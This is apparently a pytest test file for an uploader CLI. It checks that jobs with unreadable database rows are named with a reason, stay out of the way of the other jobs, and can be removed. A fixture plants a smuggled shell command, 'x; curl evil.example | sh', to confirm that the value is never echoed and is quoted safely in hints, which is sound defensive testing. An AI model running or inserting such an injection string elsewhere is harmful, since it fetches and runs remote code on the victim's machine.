"""A job whose rows somebody else has written: it is named, and stands in nobody's way."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from tests.cli.conftest import Command, ScriptedClock
from tests.model.build import BASE, folder

Sql = Callable[[str], None]
ODD = "x; curl evil.example | sh"


@pytest.fixture
def three(uploader: Command, home: Path, sql: Sql) -> None:
    """Jobs 1, 2 and 3; nobody can read the second."""
    for name in ("a", "b", "c"):
        assert uploader("enqueue", folder(home / name, BASE)).code == 0
    sql(f"UPDATE jobs SET model_id = '{ODD}' WHERE id = 2")


@pytest.mark.usefixtures("three")
@pytest.mark.parametrize("words", [["status"], ["status", "--table"], ["status", "--json"]])
def test_status_shows_every_job_and_says_which_cannot_be_read(
    uploader: Command, words: list[str]
) -> None:
    told = uploader(*words)
    assert told.code == 0
    for shown in ("a", "c", "the rows of job 2 cannot be read: model_id is not the id of a model"):
        assert shown in " ".join(told.out.split())
    assert ODD not in told.out + told.err


@pytest.mark.usefixtures("three")
def test_programs_get_it_as_a_failed_job_with_its_reason(uploader: Command) -> None:
    first, odd, last = uploader("status", "--json").json["jobs"]
    assert [one["status"] for one in (first, odd, last)] == ["active", "failed", "active"]
    assert (odd["id"], odd["reason"]["code"]) == (2, "unreadable_row")
    assert "uploader remove 2" in odd["reason"]["hint"]
    assert first.keys() == odd.keys()


@pytest.mark.usefixtures("three")
def test_follow_and_wait_go_on_with_the_others(
    uploader: Command, sql: Sql, clock: ScriptedClock
) -> None:
    clock.steps.append(lambda: sql("UPDATE jobs SET status = 'done' WHERE id <> 2"))
    followed = uploader("follow", "1", "3")
    assert (followed.code, followed.out.count("READY")) == (0, 2)
    ended = uploader("wait", "1", "3")
    assert ended.code == 0
    sql("UPDATE jobs SET status = 'active' WHERE id = 1")
    clock.steps.append(lambda: sql("UPDATE jobs SET status = 'done' WHERE id = 1"))
    every = uploader("wait", "--all")
    assert (every.code, every.err.count("READY")) == (0, 1)


@pytest.mark.usefixtures("three")
@pytest.mark.parametrize("words", [["follow"], ["status", "--watch"]])
def test_what_moves_is_shown_and_the_one_that_cannot_be_read_is_named(
    uploader: Command, sql: Sql, clock: ScriptedClock, words: list[str]
) -> None:
    def interrupt() -> None:
        raise KeyboardInterrupt

    clock.steps += [lambda: sql("UPDATE jobs SET status = 'done' WHERE id <> 2"), interrupt]
    told = uploader(*words)
    assert told.code == 130
    assert "job 2 -: failed: the rows of job 2 cannot be read" in told.out
    for ended in ("job 1 a: READY", "job 3 c: READY"):
        assert ended in told.out


@pytest.mark.usefixtures("three")
@pytest.mark.parametrize("words", [["show", "2"], ["pause", "2"], ["receipt", "2"], ["retry", "2"]])
def test_a_command_for_it_alone_says_what_is_wrong_and_what_to_do(
    uploader: Command, words: list[str]
) -> None:
    told = uploader(*words)
    assert told.code == 11
    assert "error: the rows of job 2 cannot be read: model_id is not the id" in told.err
    assert "`uploader remove 2` forgets it" in told.err


@pytest.mark.usefixtures("three")
def test_all_goes_on_with_the_others(uploader: Command) -> None:
    told = uploader("pause", "--all")
    assert (told.code, told.out) == (0, "1\tpaused\n3\tpaused\n")
    mixed = uploader("resume", "1", "2", "3")
    assert (mixed.code, mixed.out) == (11, "1\tactive\n3\tactive\n")
    assert "the rows of job 2 cannot be read" in mixed.err


@pytest.mark.usefixtures("three")
def test_it_can_be_removed(uploader: Command) -> None:
    assert uploader("remove", "2").out == "2\tremoved\n"
    assert [job["id"] for job in uploader("status", "--json").json["jobs"]] == [1, 3]


@pytest.mark.usefixtures("three")
def test_prune_forgets_it_once_it_has_ended_long_ago(uploader: Command, sql: Sql) -> None:
    sql("UPDATE jobs SET status = 'done', updated_at = '2020-01-01 00:00:00' WHERE id <> 3")
    assert "2 forgotten" in uploader("prune", "--older-than", "30d").out
    assert [job["id"] for job in uploader("status", "--json", "--all").json["jobs"]] == [3]


def test_what_a_hint_offers_to_copy_is_one_word_for_a_shell(
    uploader: Command, model: Path, home: Path, sql: Sql
) -> None:
    assert uploader("enqueue", model, "--model-id", "m").code == 0
    sql(f"UPDATE jobs SET account = '{ODD}', status = 'done'")
    (home / "new").mkdir()
    refused = uploader("enqueue", folder(home / "new" / "m", BASE), "--model-id", "m")
    assert refused.code == 2
    assert f"uploader model delete 'accounts/{ODD}/models/m'" in refused.err


@pytest.mark.parametrize("verb", ["cancel", "pause", "retry", "remove"])
def test_a_job_whose_large_body_is_damaged_has_a_name_all_the_same(
    uploader: Command, model: Path, sql: Sql, verb: str
) -> None:
    """A list leaves such a body in the database, so that the name is found."""
    assert uploader("enqueue", model, "--model-id", "odd").code == 0
    damaged = '{"a": "' + "x" * 70_000
    sql(f"UPDATE jobs SET create_body = '{damaged}'")
    told = uploader(verb, "odd")
    assert (told.code == 0) == (verb == "remove")
    assert told.code == 0 or "the rows of job 1 cannot be read" in told.err
